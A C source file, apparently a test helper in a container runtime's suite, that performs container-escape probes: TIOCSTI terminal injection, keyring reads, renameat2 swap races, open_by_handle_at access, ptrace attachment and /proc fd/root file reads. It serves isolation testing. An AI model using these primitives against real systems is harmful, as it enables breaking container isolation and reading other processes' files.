/* clang-format off */
/*
 * attack COMMAND ARG...: what a hostile process in a container does. Static, so that it runs in any
 * image. The exit status is 0 if the attack's system call succeeded.
 *
 *	push FD TEXT		pushes TEXT into the terminal FD as input
 *	key-add NAME TEXT	adds a key to the keyring of this user, which all processes of the user share
 *	key-read NAME		prints a key of that keyring
 *	swap A B		exchanges two paths again and again, until it is killed
 *	handle PATH		prints the file handle of PATH
 *	open-handle DIR HANDLE	prints a file of DIR's file system, given only its handle
 *	writable DIR...		prints the files below that open(2) opens for writing; writes nothing
 *	listen NAME		listens on an abstract socket; prints "listening", ends with the first client
 *	connect NAME		connects to an abstract socket
 *	seize NAME		attaches to the first process NAME (comm) that appears, as a debugger does
 *	look FILE		reads FILE through /proc/PID/fd, cwd and root of every process that appears
 *	whoami			prints the effective user id
 */
/* clang-format on */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int failed(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	return 1;
}

static int copy_out(int fd)
{
	char text[4096];
	ssize_t n = read(fd, text, sizeof(text));

	if (n < 0)
		return failed("read");
	fwrite(text, 1, (size_t)n, stdout);
	return 0;
}

static int push(char **arg)
{
	for (const char *c = arg[1]; *c; c++)
		if (ioctl(atoi(arg[0]), TIOCSTI, c) < 0)
			return failed("TIOCSTI");
	return 0;
}

static int key_add(char **arg)
{
	long key =
		syscall(SYS_add_key, "user", arg[0], arg[1], strlen(arg[1]), KEY_SPEC_USER_KEYRING);

	if (key < 0)
		return failed("add_key");
	/* A test that is killed leaves it to the kernel. */
	return syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, key, 60) < 0 ? failed("keyctl") : 0;
}

static int key_read(char **arg)
{
	char text[100];
	long key, n;

	/* Linked to a keyring of the process, it is in the process's possession. */
	if (syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_PROCESS_KEYRING) < 0)
		return failed("keyctl link");
	key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_PROCESS_KEYRING, "user", arg[0], 0);
	if (key < 0)
		return failed("keyctl search");
	n = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text));
	if (n < 0)
		return failed("keyctl read");
	printf("%.*s\n", (int)n, text);
	return 0;
}

static int swap(char **arg)
{
	for (;;)
		if (renameat2(AT_FDCWD, arg[0], AT_FDCWD, arg[1], RENAME_EXCHANGE) < 0 &&
		    errno != ENOENT && errno != EBUSY)
			return failed("renameat2");
}

union handle {
	struct file_handle head;
	unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int handle(char **arg)
{
	union handle h = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
	int mount;

	if (name_to_handle_at(AT_FDCWD, arg[0], &h.head, &mount, 0) < 0)
		return failed("name_to_handle_at");
	for (size_t i = 0; i < sizeof(h.head) + h.head.handle_bytes; i++)
		printf("%02x", h.bytes[i]);
	putchar('\n');
	return 0;
}

static int open_handle(char **arg)
{
	union handle h = {0};
	int dir = open(arg[0], O_RDONLY | O_DIRECTORY), fd;

	for (size_t i = 0; i < sizeof(h) && arg[1][2 * i] && arg[1][2 * i + 1]; i++)
		sscanf(arg[1] + 2 * i, "%2hhx", &h.bytes[i]);
	fd = open_by_handle_at(dir, &h.head, O_RDONLY);
	return fd < 0 ? failed("open_by_handle_at") : copy_out(fd);
}

static int try_writable(const char *path, const struct stat *st, int type, struct FTW *at)
{
	int fd;

	(void)at;
	if (type != FTW_F || !S_ISREG(st->st_mode))
		return 0;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd >= 0) {
		puts(path);
		close(fd);
	}
	return 0;
}

static int writable(char **arg)
{
	for (; *arg; arg++)
		nftw(*arg, try_writable, 64, FTW_PHYS);
	return 0;
}

static int abstract(const char *name, struct sockaddr_un *to, socklen_t *len)
{
	*to = (struct sockaddr_un){.sun_family = AF_UNIX};
	snprintf(to->sun_path + 1, sizeof(to->sun_path) - 1, "%s", name);
	*len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
	return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static int do_listen(char **arg)
{
	struct sockaddr_un to;
	socklen_t len;
	int fd = abstract(arg[0], &to, &len);

	if (bind(fd, (struct sockaddr *)&to, len) < 0 || listen(fd, 1) < 0)
		return failed("listen");
	puts("listening");
	fflush(stdout);
	return accept(fd, NULL, NULL) < 0;
}

static int do_connect(char **arg)
{
	struct sockaddr_un to;
	socklen_t len;
	int fd = abstract(arg[0], &to, &len);

	return connect(fd, (struct sockaddr *)&to, len) < 0 ? failed("connect") : 0;
}

/* Calls `each` for every process except this one, for ten seconds or until it returns 0. */
static int for_processes(int (*each)(const char *pid, const char *arg), const char *arg)
{
	time_t end = time(NULL) + 10;
	char self[16];

	snprintf(self, sizeof(self), "%d", (int)getpid());
	puts("looking");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, self) != 0 && each(entry->d_name, arg) == 0)
				return 0;
		if (dir)
			closedir(dir);
	}
	return 1;
}

static bool is_named(const char *pid, const char *name)
{
	char path[300], comm[20] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	if (read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = '\0';
	close(fd);
	comm[strcspn(comm, "\n")] = '\0';
	return strcmp(comm, name) == 0;
}

/* Attaching waits for a running execve(2), after which the process is the container's own. */
static int seize_one(const char *pid, const char *name)
{
	if (!is_named(pid, name) || ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) < 0)
		return -1;
	if (!is_named(pid, name)) {
		ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
		waitpid(atoi(pid), NULL, __WALL);
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
		return -1;
	}
	printf("attached to %s\n", name);
	return 0;
}

static int read_at(const char *pid, const char *way, const char *file)
{
	char path[600];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s/%s", pid, way, file);
	fd = open(path, O_RDONLY | O_NONBLOCK);
	return fd < 0 ? -1 : copy_out(fd);
}

static int look_one(const char *pid, const char *file)
{
	char way[16];

	if (read_at(pid, "cwd", file) == 0 || read_at(pid, "root", file) == 0)
		return 0;
	for (int fd = 0; fd < 20; fd++) {
		snprintf(way, sizeof(way), "fd/%d", fd);
		if (read_at(pid, way, file) == 0)
			return 0;
	}
	return -1;
}

static int seize(char **arg)
{
	return for_processes(seize_one, arg[0]);
}

static int look(char **arg)
{
	return for_processes(look_one, arg[0]);
}

static int whoami(char **arg)
{
	(void)arg;
	return printf("%u\n", geteuid()) < 0;
}

static const struct {
	const char *name;
	int args;
	int (*run)(char **arg);
} commands[] = {
	{"push", 2, push},         {"key-add", 2, key_add},  {"key-read", 1, key_read},
	{"swap", 2, swap},         {"handle", 1, handle},    {"open-handle", 2, open_handle},
	{"writable", 1, writable}, {"listen", 1, do_listen}, {"connect", 1, do_connect},
	{"seize", 1, seize},       {"look", 1, look},        {"whoami", 0, whoami},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(*commands); i++)
		if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].args)
			return commands[i].run(argv + 2);
	fprintf(stderr, "usage: attack COMMAND ARG... (see test/attack/attack.c)\n");
	return 2;
}
